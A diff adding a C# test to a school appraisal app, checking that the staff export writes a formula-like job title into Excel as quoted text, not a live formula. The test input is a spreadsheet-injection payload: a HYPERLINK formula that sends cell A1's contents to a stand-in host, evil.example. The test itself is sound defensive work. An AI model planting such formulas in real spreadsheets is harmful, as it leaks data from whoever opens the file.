@@ -79,6 +79,31 @@ public abstract class ExportAndTrustTests(LynchpinAppFactory app) : SchoolApprai
     }
 
     [SkippableFact]
+    public async Task Get_ExportWithTextLikeAFormula_WritesItAsText()
+    {
+        // Arrange: a job title typed to run as a formula in Excel
+        var s = await HandCheckedAsync();
+        const string Title = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
+        await Data.WithDbAsync(async db =>
+        {
+            (await db.StaffMembers.FindAsync(s.C.Id))!.JobTitle = Title;
+            return await db.SaveChangesAsync();
+        });
+        using var client = await LeaderOfAsync(s.School);
+
+        // Act
+        using var response = await client.GetAsync($"/schools/{s.School.Urn}/appraisal/export?year=2025");
+        using var workbook = await WorkbookAsync(response);
+
+        // Assert: text with Excel's own quote prefix (ClosedXML turns the apostrophe into it), never a formula
+        var people = workbook.Worksheet(1);
+        var column = people.Row(1).CellsUsed().Single(c => c.GetString() == "job_title").Address.ColumnNumber;
+        var cell = people.RowsUsed().Single(r => r.Cell(1).GetString() == s.C.StaffRef).Cell(column);
+        Assert.Equal((Title, false, true), (cell.GetString(), cell.HasFormula, cell.Style.IncludeQuotePrefix));
+        Assert.DoesNotContain(workbook.Worksheets.SelectMany(w => w.CellsUsed()), c => c.HasFormula);
+    }
+
+    [SkippableFact]
     public async Task Get_ExportAsALineManager_HasOnlyTheirTeam()
     {
         // Arrange
